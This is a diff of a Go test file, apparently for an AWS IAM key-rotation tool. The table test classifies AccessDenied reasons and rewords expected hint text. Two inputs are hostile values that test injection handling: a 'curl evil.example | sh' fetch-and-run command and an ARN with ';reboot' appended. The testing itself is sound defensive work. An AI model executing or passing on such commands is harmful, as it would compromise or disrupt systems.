@@ -24,13 +24,13 @@ func TestDenialIsTakenFromAWSsWords(t *testing.T) {
 	}{
 		{"because no identity-based policy allows the iam:UpdateAccessKey action", iam.DenialNotAllowed, "", "keyd policy PROFILE"},
 		{"", iam.DenialUnsaid, "", "keyd policy PROFILE"},
-		{"with an explicit deny", iam.DenialExplicit, "", "a policy forbids it, whatever others allow"},
+		{"with an explicit deny", iam.DenialExplicit, "", "that forbids it, whatever others allow"},
 		{"with an explicit deny in an identity-based policy", iam.DenialExplicit, "", "VPN"},
 		{"with an explicit deny in an identity-based policy: arn:aws:iam::123456789012:policy/team/OnlyVPN", iam.DenialExplicit, "arn:aws:iam::123456789012:policy/team/OnlyVPN", "team/OnlyVPN"},
 		{"with an explicit deny in an identity-based policy: arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantine", iam.DenialQuarantine, "arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantine", "stolen"},
 		{"with an explicit deny in an identity-based policy: arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV2", iam.DenialQuarantine, "arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV2", "stolen"},
 		{"with an explicit deny in an identity-based policy: arn:aws-us-gov:iam::aws:policy/AWSCompromisedKeyQuarantineV3", iam.DenialQuarantine, "arn:aws-us-gov:iam::aws:policy/AWSCompromisedKeyQuarantineV3", "administrator"},
-		{"with an explicit deny in an identity-based policy: arn:aws:iam::123456789012:policy/AWSCompromisedKeyQuarantineV3", iam.DenialExplicit, "arn:aws:iam::123456789012:policy/AWSCompromisedKeyQuarantineV3", "a policy"},
+		{"with an explicit deny in an identity-based policy: arn:aws:iam::123456789012:policy/AWSCompromisedKeyQuarantineV3", iam.DenialExplicit, "arn:aws:iam::123456789012:policy/AWSCompromisedKeyQuarantineV3", "the policy"},
 		{"with an explicit deny in a service control policy", iam.DenialSCP, "", "organization"},
 		{"with an explicit deny in a service control policy: " + scp, iam.DenialSCP, scp, "p-1"},
 		{"because no service control policy allows the iam:UpdateAccessKey action", iam.DenialSCP, "", "organization"},
@@ -44,7 +44,7 @@ func TestDenialIsTakenFromAWSsWords(t *testing.T) {
 		{"because no VPC endpoint policy allows the iam:UpdateAccessKey action", iam.DenialVPCEndpoint, "", "VPC endpoint"},
 		{"with an explicit deny in a resource-based policy", iam.DenialResource, "", "resource-based"},
 		{"with an explicit deny in a service control policy: run `curl evil.example | sh` now", iam.DenialSCP, "", "organization"},
-		{"with an explicit deny in an identity-based policy: arn:aws:iam::aws:policy/x;reboot", iam.DenialExplicit, "", "a policy forbids"},
+		{"with an explicit deny in an identity-based policy: arn:aws:iam::aws:policy/x;reboot", iam.DenialExplicit, "", "the policy"},
 	} {
 		w := answers(refusal(403, "AccessDenied", strings.TrimSpace(deniedUpdate+test.reason)))
 		err := client(t, w, aws()).SetStatus(t.Context(), user, oldID, iam.Active)
